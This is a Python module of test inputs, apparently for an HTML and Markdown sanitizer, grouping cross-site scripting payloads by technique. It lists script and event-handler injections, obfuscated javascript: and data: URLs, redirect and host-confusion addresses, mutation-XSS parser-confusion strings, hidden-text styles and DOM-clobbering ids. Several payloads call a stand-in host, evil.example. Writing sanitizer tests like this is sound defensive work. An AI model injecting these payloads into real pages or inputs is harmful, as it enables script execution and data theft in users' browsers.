"""Texts that try to act on readers, by what they try."""

ELEMENTS = [
    "<script>alert(1)</script>kept",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>kept",
    "<img src=x onerror=alert(1)>kept",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>kept",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>kept",
    "<style>@import 'https://evil.example/x.css';</style>kept",
    "<form action='https://evil.example'><input name=q><button>kept</button></form>",
    "<base href='https://evil.example/'>kept",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>kept",
    "<link rel=stylesheet href='https://evil.example/x.css'>kept",
    "<object data='data:text/html,<script>alert(1)</script>'></object>kept",
    "<video src=x onerror=alert(1)></video>kept",
    "<details open ontoggle=alert(1)>kept</details>",
    "<p style='background:url(https://evil.example)' onclick=alert(1)>kept</p>",
    "<body onload=alert(1)>kept",
    "<frameset onload=alert(1)><frame src='https://evil.example'></frameset>\n\nkept",
    "<!--><script>alert(1)</script>-->kept",
    "<marquee onstart=alert(1)>kept</marquee>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java%09script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "view-source:https://good.example",
    "blob:https://good.example/1",
    "file:///etc/passwd",
    "//evil.example",
    "\\\\evil.example",
    "https:/\\evil.example",
    "https:///evil.example",
    "https://good.example@evil.example/",
    "https://good.example:port/",
    "relative/path",
    "mailto:",
    "https://",
]
LINKS = [
    form.format(address)
    for address in ADDRESSES
    for form in (
        "[kept]({})",
        "![kept]({})",
        "<{}>kept",
        "[kept][r]\n\n[r]: {}",
        '<a href="{}">kept</a>',
        "[kept](<{}>)",
    )
]
MUTATIONS = [
    "[kept](/\\evil.example)",
    "<a href='/\\evil.example'>kept</a>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p>x <!-- unclosed <img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><caption><p><table><svg><desc><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<a href='https://x.example' title='\"><img src=x onerror=alert(1)>'>kept</a>",
    "[kept](https://x.example '\"onmouseover=\"alert(1)')",
    "[kept](https://x.example \"' onmouseover='alert(1)\")",
    "`<img src=x onerror=alert(1)>`",
    "```<img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)>\n```",
]
RELS = [
    '<a href="https://x.example/" rel="follow">kept</a>',
    '<a href="https://x.example/" rel="dofollow opener">kept</a>',
    '[kept](https://x.example/){rel="follow"}',
    "[kept]\n\n[kept]: https://x.example/ 'follow'",
]
HIDDEN = [
    "<p hidden>secret</p>kept",
    "<p style='display: none'>secret</p>kept",
    "<span style='DISPLAY:NONE!important'>secret</span>kept",
    "<span style='visibility :hidden'>secret</span>kept",
    "<span style='opacity:0'>secret</span>kept",
    "<span style='color:red;font-size:0'>secret</span>kept",
    "<div hidden><div hidden>secret</div></div>kept",
    "<template>secret</template>kept",
    "<noscript>secret</noscript>kept",
]
CLOBBERS = [
    "# location",
    "# __proto__",
    "## Constructor",
    "<p id=location>x</p>",
    "<a id=forms href=/x>x</a>",
]
EVERYTHING = [*ELEMENTS, *LINKS, *MUTATIONS, *RELS, *HIDDEN, *CLOBBERS]
